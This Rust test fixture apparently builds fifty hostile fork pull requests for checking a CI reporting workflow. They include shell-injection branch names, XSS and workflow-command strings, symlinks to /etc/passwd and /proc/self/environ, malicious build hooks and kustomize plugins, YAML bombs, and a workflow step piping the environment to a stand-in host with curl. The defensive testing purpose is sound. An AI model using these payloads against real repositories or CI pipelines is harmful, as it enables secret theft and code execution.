//! What hostile pull requests of a fork hold: each tries to run something, to read something, or to write something into the comment or the
//! log of the workflow that reports on it.
//!
//! In every text, `CANARY` stands for the path of a file that only a program of the fork would make, and `TRAP` for the address of a server
//! that nothing should ask.

use std::fmt::Write as _;

/// A file of a commit.
#[derive(Debug)]
pub(crate) enum File {
    /// Its content.
    Plain(String),
    /// The same, as a program.
    Program(String),
    /// A symbolic link to a path.
    Link(String),
    /// A submodule.
    Module,
    /// It is deleted.
    Gone,
}

/// A pull request of the fork.
#[derive(Debug)]
pub(crate) struct Case {
    /// Its branch.
    pub(crate) branch: String,
    /// What its commit changes.
    pub(crate) files: Vec<(String, File)>,
    /// Whether its commit has no parent.
    pub(crate) orphan: bool,
}

/// Markdown, HTML, mentions, links, workflow commands, control characters.
const TEXTS: [&str; 8] = [
    "# Heading @acme/team <img src=x onerror=alert(1)> [link](TRAP) ![image](TRAP)",
    "```\\n</details></table><script src=TRAP></script>\\n```",
    "| a | b |\\n|---|---|\\n| `x` | **y** |",
    "\\n::add-mask::x\\n::error file=a::b\\n##[error]c\\n::set-output name=made::true",
    "\\u001b[2J\\u001b]0;title\\u0007\\u0000\\u0008\\u202eevil\\u2066",
    "${{ github.token }} $GITHUB_TOKEN $(touch CANARY) `touch CANARY`",
    "<!-- slipway:report 1/1 --> <!-- --> --> <details><summary>approved by ann</summary>",
    "https://github.com/acme/models/pull/1 #1 acme/models#1 fixes #1 @ann",
];

const EXPERIMENT: &str = "apiVersion: slipway.dev/v1alpha1
kind: Experiment
metadata: {name: NAME}
spec:
  dataset: mnist-10k
  program: {image: 'registry.example/x@sha256:eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee', command: [python, train.py], args: ['${text}']}
  parameters: {text: \"TEXT\", number: 1}
  sweep: {parameters.number: [1, 2, 3]}
  workers: {count: 1, cpu: '1', memory: 512Mi}
  budget: {cpuHours: 1, deadline: 15m}
";

/// An experiment with this name and this text, which is written between double quotes of YAML.
fn experiment(name: &str, text: &str) -> String {
    EXPERIMENT.replace("NAME", name).replace("TEXT", text)
}

/// All of them: fifty.
pub(crate) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut add = |branch: String, files: Vec<(String, File)>| cases.push(Case { branch, files, orphan: false });
    // 16: names of branches that a shell, a log, Markdown or git could misunderstand
    for branch in [
        "x$(touch${IFS}CANARY)",
        "x`touch${IFS}CANARY`",
        "x;touch${IFS}CANARY;",
        "x|touch${IFS}CANARY",
        "\"&&touch${IFS}CANARY&&\"",
        "'$(touch${IFS}CANARY)'",
        "--upload-pack=touch${IFS}CANARY",
        "-c",
        "main",
        "HEAD",
        "@acme/team",
        "<img/src=x/onerror=alert(1)>",
        "</details>|a|b|__c__",
        "${{github.token}}",
        "\u{202e}evil\u{2066}\u{1f600}",
        "0123456789abcdef0123456789abcdef01234567",
    ] {
        add(branch.to_owned(), vec![plain("experiments/fork.yaml", &experiment("fork", "x"))]);
    }
    // 8: texts in parameters, of experiments and of rendered jobs
    for (number, text) in TEXTS.iter().enumerate() {
        let name = format!("text-{number}");
        let job = format!(
            "apiVersion: trainer.kubeflow.org/v1alpha1\nkind: TrainJob\nmetadata: {{name: {name}, namespace: training, labels: {{x: \"{text}\"}}, annotations: {{slipway.dev/experiment: \"{text}\"}}}}\nspec: {{trainer: {{env: [{{name: SLIPWAY_TRIAL, value: \"{text}\"}}]}}}}\n"
        );
        let path = format!("experiments/{name}.yaml");
        let rendered = format!("overlays/local/training-jobs/{name}-0123abcd.yaml");
        add(format!("text/{number}"), vec![plain(&path, &experiment(&name, text)), plain(&rendered, &job)]);
    }
    // 4: texts in names
    for (number, text) in [TEXTS[0], TEXTS[1], TEXTS[3], TEXTS[4]].iter().enumerate() {
        let text = experiment(&format!("\"{text}\""), "x");
        add(format!("name/{number}"), vec![plain(&format!("experiments/name-{number}.yaml"), &text)]);
    }
    // 4: names of files
    for (number, name) in
        ["x\n::error::y", "$(touch CANARY)", "<b>@acme|`x`</b>", "\u{1b}[2J\u{202e}"].iter().enumerate()
    {
        let files = [
            format!("experiments/{name}.yaml"),
            format!("overlays/local/training-jobs/{name}.yaml"),
            format!("overlays/staging/{name}/kustomization.yaml"),
        ];
        add(format!("file/{number}"), files.iter().map(|file| plain(file, &experiment("fork", "x"))).collect());
    }
    // 4: links out of the repository
    for (number, files) in [
        vec![("experiments/fork.yaml", link("/etc/passwd")), ("datasets/fork.yaml", link("/proc/self/environ"))],
        vec![
            ("experiments/fork.yaml", link("../../../../../../../../proc/self/environ")),
            ("trainers/fork", link("/")),
        ],
        vec![
            ("overlays/local/server/models.yaml", link("/proc/self/environ")),
            ("overlays/local/server/x", link("/root")),
        ],
        vec![
            ("base/server/kustomization.yaml", link("/proc/self/environ")),
            ("clusters/local/cluster.yaml", link("/etc/hostname")),
        ],
    ]
    .into_iter()
    .enumerate()
    {
        add(format!("link/{number}"), owned(files));
    }
    // 5: kustomizations that fetch, read or run
    for (number, text) in [
        "resources: ['TRAP/manifest.yaml', 'git::TRAP/repository.git?ref=main', 'https://github.com/acme/models//base?ref=main']",
        "resources: [/etc/passwd, ../../../../../../../../etc/hostname, /proc/self/environ]",
        "configMapGenerator: [{name: x, envs: [/proc/self/environ], files: [/proc/self/environ, ../../../../../../../proc/self/environ]}]",
        "generators: [plugin.yaml]\ntransformers: [plugin.yaml]",
        "helmCharts: [{name: x, repo: TRAP, version: 1.0.0}]\nhelmGlobals: {chartHome: /root}\nopenapi: {path: /proc/self/environ}",
    ]
    .iter()
    .enumerate()
    {
        let text = format!("apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n{text}\n");
        let plugin = "apiVersion: slipway.dev/v1\nkind: Plugin\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      exec: {path: ./plugin.sh}\n";
        let files = ["overlays/local/server", "overlays/production/mlflow"].into_iter().flat_map(|folder| {
            [
                plain(&format!("{folder}/kustomization.yaml"), &text),
                plain(&format!("{folder}/plugin.yaml"), plugin),
                (format!("{folder}/plugin.sh"), File::Program("#!/bin/sh\ntouch CANARY\n".to_owned())),
            ]
        });
        add(format!("kustomization/{number}"), files.collect());
    }
    // 5: what would run if somebody checked it out or built it
    let steal = "run: env | curl --data @- TRAP; touch CANARY; echo $GITHUB_TOKEN";
    let workflow = format!(
        "on: workflow_run\njobs: {{x: {{runs-on: ubuntu-24.04, permissions: write-all, steps: [{{'{}'}}]}}}}\n",
        steal.replace(": ", "': '")
    );
    let program = |text: &str| File::Program(text.to_owned());
    for (number, files) in [
        vec![
            (".github/workflows/report.yml", File::Plain(workflow.clone())),
            (".github/workflows/checks.yml", File::Plain(workflow)),
        ],
        vec![
            ("Makefile", File::Plain("$(shell touch CANARY)\n%:\n\ttouch CANARY; env\n".to_owned())),
            (
                "crates/forge/build.rs",
                File::Plain("fn main() { std::fs::write(\"CANARY\", \"\").unwrap(); }\n".to_owned()),
            ),
        ],
        vec![
            (".cargo/config.toml", File::Plain("[build]\nrustc-wrapper = \"./steal.sh\"\n".to_owned())),
            ("rust-toolchain.toml", File::Plain("[toolchain]\npath = \"./steal\"\n".to_owned())),
            ("steal.sh", program("#!/bin/sh\nenv; touch CANARY\n")),
            (".envrc", File::Plain("touch CANARY\n".to_owned())),
        ],
        vec![
            (".gitattributes", File::Plain("* filter=steal diff=steal merge=steal\n".to_owned())),
            (
                ".gitmodules",
                File::Plain("[submodule \"x\"]\n\tpath = x\n\turl = TRAP/x.git\n\tupdate = !touch CANARY\n".to_owned()),
            ),
            ("x", File::Module),
        ],
        vec![
            ("tools/setup/install.sh", program("#!/bin/sh\nenv; touch CANARY\n")),
            ("gh", program("#!/bin/sh\nenv; touch CANARY\n")),
            ("git", program("#!/bin/sh\nenv; touch CANARY\n")),
            ("slipway", program("#!/bin/sh\nenv; touch CANARY\n")),
        ],
    ]
    .into_iter()
    .enumerate()
    {
        add(format!("program/{number}"), owned(files));
    }
    // 3: too much of something
    add("huge/file".to_owned(), vec![plain("experiments/fork.yaml", &"x: [1, 2, 3]\n".repeat(2_000_000))]);
    let mut bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for level in 1..20 {
        let _ = writeln!(bomb, "a{level}: &a{level} [{}]", vec![format!("*a{}", level - 1); 9].join(", "));
    }
    let deep = "[".repeat(200_000);
    let mut sweep = experiment("fork", "x").replace("[1, 2, 3]", &format!("{:?}", (0..100_000).collect::<Vec<_>>()));
    sweep.push('\n');
    add(
        "huge/meaning".to_owned(),
        vec![
            plain("experiments/bomb.yaml", &bomb),
            plain("experiments/deep.yaml", &deep),
            plain("experiments/fork.yaml", &sweep),
        ],
    );
    let many = (0..2_000).map(|number| {
        let name = format!("fork-{number}");
        plain(&format!("experiments/{name}.yaml"), &experiment(&name, "x"))
    });
    add("huge/number".to_owned(), many.collect());
    // and a history that has nothing to do with main's
    let files = vec![plain("README.md", "<h1>@acme</h1>"), ("experiments".to_owned(), File::Gone)];
    cases.push(Case { branch: "orphan".to_owned(), files, orphan: true });
    cases
}

fn plain(path: &str, text: &str) -> (String, File) {
    (path.to_owned(), File::Plain(text.to_owned()))
}

fn link(to: &str) -> File {
    File::Link(to.to_owned())
}

fn owned(files: Vec<(&str, File)>) -> Vec<(String, File)> {
    files.into_iter().map(|(path, file)| (path.to_owned(), file)).collect()
}
